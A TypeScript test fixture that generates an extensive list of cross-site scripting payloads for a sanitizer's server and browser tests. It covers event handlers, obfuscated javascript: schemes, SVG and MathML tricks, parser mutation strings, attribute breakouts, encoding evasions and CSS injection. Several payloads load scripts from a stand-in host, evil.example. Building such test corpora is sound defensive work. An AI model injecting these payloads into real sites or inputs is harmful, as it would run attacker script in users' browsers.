/**
 * What attackers write where a text is expected, by families as the public lists know them. Each is made by rule from
 * parts, so that every part meets every other; `boom()` stands for the program that must never run. The tests of the
 * server and of the browser share it.
 */

const each = <A, B>(first: readonly A[], second: readonly B[], make: (a: A, b: B) => string): string[] =>
  first.flatMap((a) => second.map((b) => make(a, b)));

/** Elements that call a handler by themselves, or after a touch. */
const handlers = each(
  [
    ...['img src=x', 'video src=x', 'audio src=x', 'body', 'input autofocus', 'select autofocus', 'textarea autofocus'],
    ...['details open', 'marquee', 'svg', 'iframe', 'object data=x', 'embed src=x', 'div style="animation-name:a"'],
    ...['a href=# autofocus tabindex=1', 'made-up tabindex=1 autofocus'],
  ],
  ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart'],
  (element, handler) => `<${element} ${handler}=boom()>`,
);

/** Ways to write the scheme that a filter may not recognise and a browser may. */
const schemes = [
  ...['javascript:boom()', 'JavaScript:boom()', 'JAVASCRIPT:boom()', ' javascript:boom()', '\tjavascript:boom()'],
  ...[
    'java\tscript:boom()',
    'java\nscript:boom()',
    'java\rscript:boom()',
    '\u0001javascript:boom()',
    '\0javascript:boom()',
  ],
  ...['java&Tab;script:boom()', 'javascript&colon;boom()', '&#106;avascript:boom()', '&#x6A;avascript:boom()'],
  ...[
    '&#0000106avascript:boom()',
    'javascript&#58;boom()',
    'javascript&#x3a;boom()',
    'javascript://x.example/%0aboom()',
  ],
  ...['javascript:/*x*/boom()', 'javascript:void(boom())', 'feed:javascript:boom()', 'view-source:javascript:boom()'],
  ...['vbscript:boom()', 'livescript:boom()', 'mocha:boom()', 'jar:javascript:boom()', 'ｊavascript:boom()'],
  ...['data:text/html,<script>boom()</script>', 'data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4='],
  ...[
    'data:image/svg+xml,<svg onload=boom()>',
    'data:application/xhtml+xml,<x/>',
    'blob:null/boom',
    'filesystem:x/boom',
  ],
  ...[
    '//evil.example/boom.js',
    '\\\\evil.example\\boom',
    'http://evil.example/',
    'file:///boom',
    'intent://boom#Intent;end',
  ],
];
const schemesInPlaces = each(
  [
    (address: string) => `<a href="${address}">x</a>`,
    (address: string) => `<form action="${address}"><button>x</button></form>`,
    (address: string) => `<iframe src="${address}"></iframe>`,
    (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  ],
  schemes,
  (place, address) => place(address),
);

const scripts = [
  ...['<script>boom()</script>', '<SCRIPT>boom()</SCRIPT>', '<script\n>boom()</script >', '<script/x>boom()</script>'],
  ...['<script src=//evil.example></script>', '<script type=module>boom()</script>', '<scr<script>ipt>boom()</script>'],
  ...['<<script>boom()//<</script>', '<script>boom()', '<script>boom()<!--', '<script/**/>boom()</script>'],
  ...['</script><script>boom()</script>', '<script><!--<script></script>--></script><script>boom()</script>'],
  ...['<noscript><p title="</noscript><script>boom()</script>">', '<template><script>boom()</script></template>'],
  ...['<iframe srcdoc="<script>boom()</script>">', '<iframe srcdoc=&lt;script&gt;boom()&lt;/script&gt;>'],
  ...[
    '<object type=text/html data="data:text/html,<script>boom()</script>"></object>',
    '<embed src=//evil.example/x.swf>',
  ],
  ...['<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=javascript:boom()">'],
  ...['<link rel=stylesheet href=//evil.example/x.css>', '<link rel=import href=//evil.example>', '<portal src=x>'],
];

/** Elements of drawings and formulas, which have rules of their own. */
const foreign = [
  ...['<svg><script>boom()</script></svg>', '<svg><script xlink:href=//evil.example/>', '<svg/onload=boom()>'],
  ...['<svg><animate onbegin=boom() attributeName=x dur=1s>', '<svg><set onbegin=boom() attributename=x>'],
  ...['<svg><a><animate attributeName=href values=javascript:boom() /><text>x</text></a></svg>'],
  ...['<svg><use href="data:image/svg+xml,<svg id=x onload=boom()>#x"/></svg>', '<svg><image href=x onerror=boom()>'],
  ...['<svg><foreignObject><iframe onload=boom()></foreignObject></svg>', '<svg><handler>boom()</handler></svg>'],
  ...['<svg><style>@import"//evil.example"</style></svg>', '<svg><desc><img src=x onerror=boom()></desc></svg>'],
  ...['<math href=javascript:boom()>x</math>', '<math><maction xlink:href=javascript:boom()>x</maction></math>'],
  ...['<math><annotation-xml encoding=text/html><script>boom()</script></annotation-xml></math>'],
];

/** HTML that a parser reads in one way and, once written out, in another. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=boom()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=boom()>">',
  '<noscript><style></noscript><img src=x onerror=boom()></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom()>',
  '<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=boom() src=1>">',
  '<xmp><p title="</xmp><svg/onload=boom()>">',
  '<noembed><p title="</noembed><img src=x onerror=boom()>">',
  '<title><p title="</title><img src=x onerror=boom()>">',
  '<textarea><p title="</textarea><img src=x onerror=boom()>">',
  '<svg><p><style><g title="</style><img src=x onerror=boom()>">',
  '<table><td><svg><desc><td><img src=x onerror=boom()>',
  '<select><template><style><!--</select><img src=x onerror=boom()>--></style>',
  '<a href="x"><a href="javascript:boom()">x</a></a>',
  '<p><plaintext><img src=x onerror=boom()>',
  '<img alt="`><img src=x onerror=boom()>`">',
  '<b><p><b><svg><b></svg></p><script>boom()</script>',
  '<frameset onload=boom()><frame src=javascript:boom()>',
  '<dialog open onclose=boom()><form method=dialog><button>x</button></form></dialog>',
  '<div id=x popover onbeforetoggle=boom()>x</div><button popovertarget=x>x</button>',
  '<![CDATA[><img src=x onerror=boom()>]]>',
];

/** Texts that break out of an attribute, a comment, a program or a style, wherever somebody pastes them in. */
const escapes = each(
  [
    '"',
    "'",
    '`',
    '">',
    "'>",
    '-->',
    '</style>',
    '</script>',
    '</title>',
    '</textarea>',
    ']]>',
    '\\"',
    '"/>',
    '{{',
    '${',
  ],
  ['<img src=x onerror=boom()>', ' onfocus=boom() autofocus x=', ';boom()//', '<svg onload=boom()>'],
  (end, then) => `${end}${then}`,
);

const encodings = [
  ...['&lt;script&gt;boom()&lt;/script&gt;', '&amp;lt;script&amp;gt;boom()', '%3Cscript%3Eboom()%3C/script%3E'],
  ...['\\u003cscript\\u003eboom()', '\\x3cscript\\x3eboom()', '+ADw-script+AD4-boom()+ADw-/script+AD4-'],
  ...['＜script＞boom()＜/script＞', '‹script›boom()', '<\0script>boom()</script>', '<scr\0ipt>boom()</script>'],
  ...[
    '\ufeff<script>boom()</script>',
    '\u2028<script>boom()</script>',
    '<ſcript>boom()</ſcript>',
    '<img/src=x/onerror=boom()>',
  ],
  ...['<img\fsrc=x\fonerror=boom()>', '<img src=x onerror\x0b=boom()>', '<img src=x:x onerror=&#98;oom()>'],
  ...[
    '<img src=x onerror="&#x62;&#x6f;&#x6f;&#x6d;()">',
    '¼script¾boom()¼/script¾',
    "<%<!--'%><script>boom()</script>-->",
  ],
];

const styles = [
  ...['<div style="background:url(javascript:boom())">x</div>', '<div style="width:expression(boom())">x</div>'],
  ...['<div style="behavior:url(#default#x)">x</div>', '<div style="-moz-binding:url(//evil.example/x#y)">x</div>'],
  ...[
    '<div style="b\\61ckground:url(//evil.example)">x</div>',
    '<p style="font-family:\'x;}*{x:url(//evil.example)}\'">x</p>',
  ],
  ...['<style>@import"javascript:boom()";</style>', '<style>*{background:url(//evil.example)}</style>'],
  ...['<div style="position:fixed;inset:0;z-index:9999">x</div>', '<style onload=boom()></style>'],
  ...[
    '<img style="content:url(data:image/svg+xml,<svg/onload=boom()>)">',
    '<x style="animation:a" onanimationend=boom()>',
  ],
];

export const xssPayloads: readonly string[] = [
  ...new Set([handlers, schemesInPlaces, scripts, foreign, mutations, escapes, encodings, styles].flat()),
];
